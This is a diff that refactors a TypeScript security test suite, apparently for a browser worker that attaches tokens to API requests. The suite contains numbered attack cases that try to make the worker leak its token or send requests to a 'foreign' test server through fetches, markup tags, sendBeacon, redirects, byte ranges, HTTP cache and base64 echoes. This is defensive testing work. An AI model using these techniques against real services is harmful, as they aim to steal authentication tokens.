@@ -1,6 +1,12 @@
 import { describeRequests } from '../detector.ts';
 import type { Attack } from '../attack.ts';
 import type { Scene } from '../scene.ts';
+import { send } from '../visit.ts';
+
+/** A worker that adds tokens as it is told, and what comes along with a request. */
+const REQUEST = { scenario: '5.1.4', naive: 'worker' } as const;
+/** The same, where the token itself is to be had. */
+const THEFT = { scenario: '5.1.1', naive: 'worker' } as const;
 
 /** What reached the second resource of an attack, which carries its id. */
 function received(scene: Scene, id: string): unknown {
@@ -12,15 +18,9 @@ function fetching(id: string, title: string, path: string, init: RequestInit = {
   return {
     id,
     title,
-    scenario: '5.1.4',
-    naive: 'worker',
+    ...REQUEST,
     act: async (scene) => {
-      await scene.tab.evaluate(
-        async ({ url, options }) => {
-          await fetch(url, options).catch(() => {});
-        },
-        { url: `${scene.servers.resource.origin}${path}?${id}`, options: init },
-      );
+      await send(scene.tab, `${scene.servers.resource.origin}${path}?${id}`, init);
       return { seen: received(scene, id) };
     },
   };
@@ -31,8 +31,7 @@ function placing(id: string, title: string, markup: (url: string) => string): At
   return {
     id,
     title,
-    scenario: '5.1.4',
-    naive: 'worker',
+    ...REQUEST,
     act: async (scene) => {
       await scene.tab.evaluate(
         async ({ html, selector }) => {
@@ -57,8 +56,7 @@ function echoing(id: string, title: string, echo: 'body' | 'base64' | 'header'):
   return {
     id,
     title,
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { resource } }) => ({
       seen: await tab.evaluate(async (url) => {
         const response = await fetch(url);
@@ -73,12 +71,9 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A01',
     title: 'requests an origin whose port begins like that of the API',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { foreign } }) => {
-      await tab.evaluate(async (url) => {
-        await fetch(url).catch(() => {});
-      }, `${foreign.origin}/v1/A01`);
+      await send(tab, `${foreign.origin}/v1/A01`);
       return { seen: '' };
     },
   },
@@ -97,21 +92,18 @@ export const API_ATTACKS: readonly Attack[] = [
     headers: { 'x-http-method-override': 'DELETE' },
     body: '{}',
   }),
-  {
-    ...fetching('A13', 'sends a request without CORS, as markup does', '/v1/x', {
-      mode: 'no-cors',
-      method: 'POST',
-      body: 'x',
-    }),
-  },
+  fetching('A13', 'sends a request without CORS, as markup does', '/v1/x', {
+    mode: 'no-cors',
+    method: 'POST',
+    body: 'x',
+  }),
   placing('A14', 'places an image', (url) => `<img src="${url}">`),
   placing('A15', 'places a style sheet', (url) => `<link rel="stylesheet" href="${url}">`),
   placing('A16', 'places a sound', (url) => `<audio preload="auto" src="${url}"></audio>`),
   {
     id: 'A17',
     title: 'loads a response of the API as a script',
-    scenario: '5.1.4',
-    naive: 'worker',
+    ...REQUEST,
     act: async (scene) => {
       await scene.tab.evaluate(async (url) => {
         const script = document.createElement('script');
@@ -128,8 +120,7 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A18',
     title: 'sends a beacon',
-    scenario: '5.1.4',
-    naive: 'worker',
+    ...REQUEST,
     act: async (scene) => {
       await scene.tab.evaluate(async (url) => {
         navigator.sendBeacon(url, 'x');
@@ -142,33 +133,20 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A19',
     title: 'has the API redirect to a server of its own',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { resource, foreign, api } }) => {
-      for (const from of [`${resource.origin}/v1/x`, `${api.url}/me`]) {
-        await tab.evaluate(
-          async (url) => {
-            await fetch(url).catch(() => {});
-          },
-          `${from}?redirect=${encodeURIComponent(`${foreign.origin}/A19`)}`,
-        );
-      }
+      for (const from of [`${resource.origin}/v1/x`, `${api.url}/me`])
+        await send(tab, `${from}?redirect=${encodeURIComponent(`${foreign.origin}/A19`)}`);
       return { seen: '' };
     },
   },
   {
     id: 'A20',
     title: 'has the API redirect to a path of the same origin outside the API',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async (scene) => {
       const { origin } = scene.servers.resource;
-      await scene.tab.evaluate(
-        async (url) => {
-          await fetch(url).catch(() => {});
-        },
-        `${origin}/v1/x?redirect=${encodeURIComponent(`${origin}/beside?A20`)}`,
-      );
+      await send(scene.tab, `${origin}/v1/x?redirect=${encodeURIComponent(`${origin}/beside?A20`)}`);
       return { seen: received(scene, '/beside?A20') };
     },
   },
@@ -178,8 +156,7 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A24',
     title: 'has the API send the token back a few bytes at a time, by ranges',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { resource } }) => ({
       seen: await tab.evaluate(async (url) => {
         let seen = '';
@@ -199,8 +176,7 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A29',
     title: 'has the API send the token back, and takes the response from the HTTP cache',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { resource } }) => ({
       seen: await tab.evaluate(
         async (urls) => {
@@ -230,8 +206,7 @@ export const API_ATTACKS: readonly Attack[] = [
   {
     id: 'A32',
     title: 'has the API send the token back in base64 over lines, at every place of a line',
-    scenario: '5.1.1',
-    naive: 'worker',
+    ...THEFT,
     act: async ({ tab, servers: { resource } }) => ({
       seen: await tab.evaluate(async (url) => {
         // 76 columns are 57 bytes.
